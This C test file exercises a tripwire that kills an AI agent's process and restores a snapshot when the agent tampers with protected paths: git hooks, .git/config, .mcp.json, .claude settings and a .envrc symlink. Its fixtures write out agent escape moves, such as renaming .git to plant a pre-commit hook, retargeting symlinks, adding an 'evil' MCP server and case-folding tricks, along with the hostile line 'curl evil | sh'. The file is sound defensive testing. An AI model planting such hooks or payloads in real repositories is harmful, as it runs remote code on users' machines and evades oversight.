/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* The tripwire on a real file system with real inotify: ordinary work in the work dir does not trip it;
 * the rename of .git and a planted hook do, the watched process is killed, and the snapshot comes back,
 * symlinks planted on the way removed rather than followed. */

#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "casefold-test.h"
#include "io-util.h"
#include "config.h"
#include "macro.h"
#include "path-util.h"
#include "protected-paths.h"
#include "strv.h"
#include "tap.h"
#include "tripwire.h"

static char work[] = "/tmp/test-tripwire.XXXXXX";

static char *wpath(const char *rel) {
        static char buf[4][PATH_MAX];
        static unsigned next;
        char *p = buf[next++ % 4];
        snprintf(p, PATH_MAX, "%s/%s", work, rel);
        return p;
}

static void put(const char *rel, const char *text) {
        if (write_file_atomic(wpath(rel), text, strlen(text), 0644) < 0)
                abort();
}

static char *get(const char *rel) {
        char *s = NULL;
        if (read_full_file_at(AT_FDCWD, wpath(rel), 1 << 20, true, &s, NULL) < 0)
                return NULL;
        return s;
}

static pid_t sleeper(void) {
        pid_t pid = fork();
        if (pid == 0) {
                for (;;)
                        pause();
        }
        return pid;
}

/* Whether pid died of SIGKILL; if it is still alive, it is killed here (and false returned). */
/* Polls for up to 10 s (a loaded machine may be slow to schedule the watch), returning as soon as it died. */
static bool was_killed(pid_t pid) {
        int status;
        for (int i = 0; i < 1000; i++) {
                if (waitpid(pid, &status, WNOHANG) == pid)
                        return WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
                usleep(10000);
        }
        kill(pid, SIGTERM);
        waitpid(pid, &status, 0);
        return false;
}

/* After tripwire_disarm(), which has acted on every event before it returns: not killed, now. */
static bool lives(pid_t pid) {
        int status;
        bool alive = waitpid(pid, &status, WNOHANG) == 0;

        kill(pid, SIGTERM);
        waitpid(pid, &status, 0);
        return alive;
}

static char *protected[] = { (char *) ".git/hooks", (char *) ".git/config", (char *) ".mcp.json", (char *) ".claude", NULL };

int main(void) {
        Tripwire *t = NULL;
        const char *changed;
        pid_t pid;
        char cmd[PATH_MAX + 32];

        if (!mkdtemp(work))
                abort();
        (void) mkdir(wpath(".git"), 0755);
        (void) mkdir(wpath(".git/hooks"), 0755);
        (void) mkdir(wpath(".git/objects"), 0755);
        put(".git/hooks/pre-commit.sample", "#!/bin/sh\necho sample\n");
        put(".git/config", "[core]\n\tbare = false\n");
        put(".mcp.json", "{}\n");
        put("main.c", "int main;\n");

        /* Ordinary work does not trip it. */
        ok(tripwire_new(work, protected, &t) == 0, "a snapshot of .git/hooks, .git/config and .mcp.json is taken (.claude is missing)");
        is_int(tripwire_count(t), 5, "...five entries: the hooks dir, its file, the config, .mcp.json and the absent .claude");
        pid = sleeper();
        ok(tripwire_arm(t, pid) == 0, "the tripwire is armed");
        put("main.c", "int main(void) { return 0; }\n");
        put(".git/objects/ab", "blob");
        put(".git/index", "index");
        put(".git/config.lock", "x");
        free(get(".git/config"));
        free(get(".git/hooks/pre-commit.sample"));
        usleep(100000);
        ok(tripwire_disarm(t) == NULL, "editing sources, writing .git/objects, .git/index and reading the protected files does not trip it");
        ok(lives(pid), "...and the watched process lives");
        t = tripwire_free(t);

        /* The rename attack: .git moved away, a new one with a planted hook. */
        ok(tripwire_new(work, protected, &t) == 0, "a new snapshot");
        pid = sleeper();
        ok(tripwire_arm(t, pid) == 0, "armed again");
        ok(rename(wpath(".git"), wpath(".git2")) == 0, "setup: .git renamed away (as an agent can: it is no mount point)");
        (void) mkdir(wpath(".git"), 0755);
        (void) mkdir(wpath(".git/hooks"), 0755);
        put(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
        usleep(100000);
        changed = tripwire_disarm(t);
        is_str(changed, ".git", "the tripwire reports .git");
        ok(was_killed(pid), "...and killed the watched process with SIGKILL");
        ok(tripwire_restore(t) > 0, "the snapshot is restored");
        {
                _cleanup_free_ char *hook = get(".git/hooks/pre-commit"), *sample = get(".git/hooks/pre-commit.sample"),
                        *config = get(".git/config");
                ok(!hook, "the planted hook is gone");
                is_str(sample, "#!/bin/sh\necho sample\n", "the original hooks are back");
                is_str(config, "[core]\n\tbare = false\n", ".git/config is back");
        }
        t = tripwire_free(t);

        /* A protected path that was missing must stay missing: .claude with settings made by the agent. */
        ok(tripwire_new(work, protected, &t) == 0, "a snapshot with .claude absent");
        pid = sleeper();
        ok(tripwire_arm(t, pid) == 0, "armed");
        (void) mkdir(wpath(".claude"), 0755);
        put(".claude/settings.json", "{\"hooks\": {}}\n");
        usleep(100000);
        is_str(tripwire_disarm(t), ".claude", "creating the missing .claude trips the wire");
        ok(was_killed(pid), "...the watched process is killed");
        ok(tripwire_restore(t) > 0 && access(wpath(".claude"), F_OK) < 0, "...and .claude is removed again");
        t = tripwire_free(t);

        /* Below a missing directory: .git/hooks and .git/config before `git init`, deeper paths too. */
        {
                char *fresh[] = { (char *) "repo/.git/hooks", (char *) "repo/.git/config", (char *) "x/y/z", NULL };
                struct stat st;

                (void) mkdir(wpath("repo"), 0755);
                ok(tripwire_new(work, fresh, &t) == 0 && tripwire_count(t) == 3,
                   "paths below missing directories are recorded as absent");
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed");
                (void) mkdir(wpath("repo/.git"), 0755);
                (void) mkdir(wpath("repo/.git/objects"), 0755);
                put("repo/.git/HEAD", "ref: refs/heads/main\n");
                (void) mkdir(wpath("x"), 0755);
                (void) mkdir(wpath("x/y"), 0755);
                (void) rmdir(wpath("x/y"));
                usleep(100000);
                ok(kill(pid, 0) == 0, "creating .git and the directories on the way does not trip it");
                (void) mkdir(wpath("repo/.git/hooks"), 0755);
                put("repo/.git/hooks/pre-commit", "#!/bin/sh\n");
                usleep(100000);
                is_str(tripwire_disarm(t), "repo/.git/hooks", "...the hooks directory `git init` makes in it does");
                ok(was_killed(pid), "...the watched process is killed");
                ok(tripwire_restore(t) > 0 && access(wpath("repo/.git/hooks"), F_OK) < 0 &&
                   access(wpath("repo/.git/HEAD"), F_OK) == 0, "...and .git/hooks is removed again, the rest of .git stays");
                t = tripwire_free(t);

                ok(tripwire_new(work, fresh, &t) == 0, "a snapshot with x/y/z three levels down from what exists");
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed");
                (void) mkdir(wpath("x/y"), 0755);
                put("x/y/z", "planted\n");
                usleep(100000);
                is_str(tripwire_disarm(t), "x/y/z", "creating x/y and then x/y/z trips the wire");
                ok(was_killed(pid), "...the watched process is killed");
                ok(tripwire_restore(t) > 0 && access(wpath("x/y/z"), F_OK) < 0, "...and x/y/z is removed again");
                t = tripwire_free(t);

                /* A directory moved in with the path inside it already. */
                snprintf(cmd, sizeof cmd, "rm -rf '%s'", wpath("repo/.git"));
                ok(system(cmd) == 0, "setup: no .git");
                ok(tripwire_new(work, fresh, &t) == 0, "a snapshot again");
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed");
                (void) mkdir(wpath("prepared"), 0755);
                (void) mkdir(wpath("prepared/hooks"), 0755);
                ok(rename(wpath("prepared"), wpath("repo/.git")) == 0, "setup: a .git with hooks moved into place");
                usleep(100000);
                is_str(tripwire_disarm(t), "repo/.git/hooks", "...trips the wire");
                ok(was_killed(pid), "...the watched process is killed");
                ok(tripwire_restore(t) > 0 && access(wpath("repo/.git/hooks"), F_OK) < 0, "...and the hooks are removed");
                t = tripwire_free(t);

                /* A symlink where a directory of the path belongs would redirect it. */
                ok(rmdir(wpath("repo/.git")) == 0, "setup: no .git");
                ok(tripwire_new(work, fresh, &t) == 0, "a snapshot without .git");
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed");
                ok(symlink("/tmp", wpath("repo/.git")) == 0, "setup: .git made a symlink");
                usleep(100000);
                is_str(tripwire_disarm(t), "repo/.git", "...trips the wire");
                ok(was_killed(pid), "...the watched process is killed");
                ok(tripwire_restore(t) > 0 && lstat(wpath("repo/.git"), &st) < 0, "...and the symlink is removed");
                t = tripwire_free(t);

                /* Watches are capped: directories appearing again and again trip it rather than grow it. */
                ok(tripwire_new(work, fresh, &t) == 0, "a snapshot without .git once more");
                for (unsigned i = 0; i <= TRIPWIRE_WATCHES_MAX; i++) {
                        char name[64];
                        snprintf(name, sizeof name, "old/%u", i);
                        if (i == 0)
                                (void) mkdir(wpath("old"), 0755);
                        if (mkdir(wpath("repo/.git"), 0755) < 0 || rename(wpath("repo/.git"), wpath(name)) < 0)
                                abort();
                }
                (void) mkdir(wpath("repo/.git"), 0755);
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed after .git was made and moved away more than TRIPWIRE_WATCHES_MAX times");
                ok(was_killed(pid), "...the watched process is killed");
                is_str(tripwire_disarm(t), "(too many changes to follow)", "...for too many changes to follow");
                t = tripwire_free(t);
                snprintf(cmd, sizeof cmd, "rm -rf '%s' '%s' '%s'", wpath("old"), wpath("repo"), wpath("x"));
                if (system(cmd) != 0)
                        abort();
        }

        /* A .git file (a worktree's) on the way is not followed: nothing to watch below it. */
        {
                char *wt[] = { (char *) "wt/.git/hooks", NULL };

                (void) mkdir(wpath("wt"), 0755);
                put("wt/.git", "gitdir: /elsewhere\n");
                ok(tripwire_new(work, wt, &t) == 0 && tripwire_count(t) == 0,
                   "a path below a file (a worktree's .git) is not watched");
                t = tripwire_free(t);
                snprintf(cmd, sizeof cmd, "rm -rf '%s'", wpath("wt"));
                if (system(cmd) != 0)
                        abort();
        }

        /* A symlink planted where a protected directory was: removed, not followed. */
        {
                char outside[] = "/tmp/test-tripwire-outside.XXXXXX";
                struct stat st;

                ok(mkdtemp(outside) != NULL, "setup: a directory outside the work dir");
                ok(tripwire_new(work, protected, &t) == 0, "a third snapshot");
                snprintf(cmd, sizeof cmd, "rm -rf '%s'", wpath(".git/hooks"));
                ok(system(cmd) == 0 && symlink(outside, wpath(".git/hooks")) == 0, "setup: .git/hooks replaced by a symlink");
                put(".mcp.json", "{\"mcpServers\": {\"evil\": {}}}\n");
                ok(tripwire_restore(t) > 0, "restored");
                ok(lstat(wpath(".git/hooks"), &st) == 0 && S_ISDIR(st.st_mode), ".git/hooks is a directory again");
                snprintf(cmd, sizeof cmd, "%s/pre-commit.sample", outside);
                ok(access(cmd, F_OK) < 0, "...and nothing was written through the symlink");
                {
                        _cleanup_free_ char *mcp = get(".mcp.json");
                        is_str(mcp, "{}\n", ".mcp.json is back");
                }
                t = tripwire_free(t);
                snprintf(cmd, sizeof cmd, "rm -rf '%s'", outside);
                if (system(cmd) != 0)
                        abort();
        }

        /* A protected path that is a symlink when the run starts (a repository may carry .envrc ->
         * scripts/env.sh): the link itself is kept; retargeting it trips the wire and the link comes back. */
        {
                static char *linked[] = { (char *) ".envrc", NULL };
                char target[PATH_MAX];
                ssize_t n;

                (void) mkdir(wpath("scripts"), 0755);
                put("scripts/env.sh", "export A=1\n");
                put("scripts/evil.sh", "curl evil | sh\n");
                ok(symlink("scripts/env.sh", wpath(".envrc")) == 0, "setup: .envrc is a symlink to scripts/env.sh");
                ok(tripwire_new(work, linked, &t) == 0 && tripwire_count(t) == 1, "the symlink is snapshotted as a link");
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed");
                ok(unlink(wpath(".envrc")) == 0 && symlink("scripts/evil.sh", wpath(".envrc")) == 0,
                   "setup: the agent points .envrc at its own script");
                usleep(100000);
                is_str(tripwire_disarm(t), ".envrc", "retargeting a protected symlink trips the wire");
                ok(was_killed(pid), "...the watched process is killed");
                ok(tripwire_restore(t) > 0, "...and the snapshot is restored");
                n = readlink(wpath(".envrc"), target, sizeof target - 1);
                ok(n > 0 && (target[n] = 0, streq(target, "scripts/env.sh")), "...the link points where it did");
                t = tripwire_free(t);
        }

        /* A protected symlink that dangles when the run starts (.git/hooks -> ../.githooks before anyone
         * made .githooks): its target, as protected_paths_guarded() names it, is kept missing, so the
         * agent's creation of .githooks/pre-commit trips the wire. The list goes to the tripwire as the
         * runner gives it (runner_tripwire_new()). */
        {
                char repo[] = "/tmp/test-tripwire-dangling.XXXXXX";
                _cleanup_strv_free_ char **guarded = NULL, **rel = NULL;
                _cleanup_free_ char *root = NULL, *p = NULL;
                LoopConfig c = {};

                ok(mkdtemp(repo) && asprintf(&p, "%s/.git", repo) >= 0 && mkdir(p, 0755) == 0, "setup: a repository");
                free(p);
                ok(asprintf(&p, "%s/.git/hooks", repo) >= 0 && symlink("../.githooks", p) == 0,
                   "setup: its .git/hooks is a symlink to ../.githooks, which does not exist");
                c.work_dir = repo;
                ok(protected_paths_guarded(&c, &root, &guarded) == 0, "the guarded paths are listed");
                STRV_FOREACH(g, guarded)
                        if (path_is_inside(*g, root) && !streq(*g, root))
                                if (strv_extend(&rel, *g + strlen(root) + 1) < 0)
                                        abort();
                ok(tripwire_new(root, rel, &t) == 0, "the tripwire takes them");
                pid = sleeper();
                ok(tripwire_arm(t, pid) == 0, "armed");
                free(p);
                ok(asprintf(&p, "%s/.githooks", repo) >= 0 && mkdir(p, 0755) == 0, "setup: the agent makes .githooks");
                free(p);
                ok(asprintf(&p, "%s/.githooks/pre-commit", repo) >= 0 &&
                   write_file_atomic(p, "#!/bin/sh\ncurl evil | sh\n", 25, 0755) >= 0, "...with a pre-commit hook in it");
                usleep(100000);
                is_str(tripwire_disarm(t), ".githooks", "creating the target of a dangling protected symlink trips the wire");
                ok(was_killed(pid), "...the watched process is killed");
                ok(tripwire_restore(t) > 0 && access(p, F_OK) < 0, "...and the restore takes the hook away");
                t = tripwire_free(t);
                free(p);
                if (asprintf(&p, "rm -rf '%s'", repo) < 0 || system(p) != 0)
                        abort();
        }

        /* Caps. */
        {
                int fd = open(wpath(".mcp.json"), O_WRONLY | O_TRUNC | O_CLOEXEC);
                ok(fd >= 0 && ftruncate(fd, TRIPWIRE_BYTES_MAX + 1) == 0, "setup: a protected file over the cap");
                if (fd >= 0)
                        close(fd);
                ok(tripwire_new(work, protected, &t) == -EFBIG && !t, "a snapshot over TRIPWIRE_BYTES_MAX is refused");
        }

        /* Last (it unshares the mount namespace): a work dir that folds case, where the .MCP.JSON the agent
         * makes is the .mcp.json the host's tools open. */
        {
                char cf[] = "/tmp/test-tripwire-casefold.XXXXXX", w[sizeof(cf) + 16], p[sizeof(cf) + 32];
                int r = mkdtemp(cf) ? casefold_tmpfs_mount(cf) : -errno;

                snprintf(w, sizeof w, "%s/work", cf);
                if (r >= 0 && (mkdir(w, 0755) < 0 || casefold_dir_set(w) < 0))
                        r = -errno;
                if (r < 0)
                        skip("in a folding work dir, a missing protected name made in another case trips the wire",
                             "no tmpfs -o casefold here (root and a kernel with CONFIG_UNICODE)");
                else {
                        ok(tripwire_new(w, (char *[]) { (char *) ".mcp.json", NULL }, &t) == 0,
                           "a snapshot of a folding work dir with .mcp.json absent");
                        pid = sleeper();
                        ok(tripwire_arm(t, pid) == 0, "armed");
                        snprintf(p, sizeof p, "%s/notes.txt", w);
                        close(open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
                        snprintf(p, sizeof p, "%s/.MCP.JSON", w);
                        close(open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
                        usleep(100000);
                        is_str(tripwire_disarm(t), ".mcp.json",
                               "in a folding work dir .MCP.JSON trips the wire as .mcp.json (notes.txt before it did not)");
                        ok(was_killed(pid), "...the watched process is killed");
                        ok(tripwire_restore(t) > 0 && access(p, F_OK) < 0, "...and .MCP.JSON is removed again");
                        t = tripwire_free(t);
                        (void) umount2(cf, MNT_DETACH);
                }
                (void) rmdir(cf);
        }

        snprintf(cmd, sizeof cmd, "rm -rf '%s' '%s'", work, wpath("../test-tripwire-unused"));
        if (system(cmd) != 0)
                abort();
        return done_testing();
}
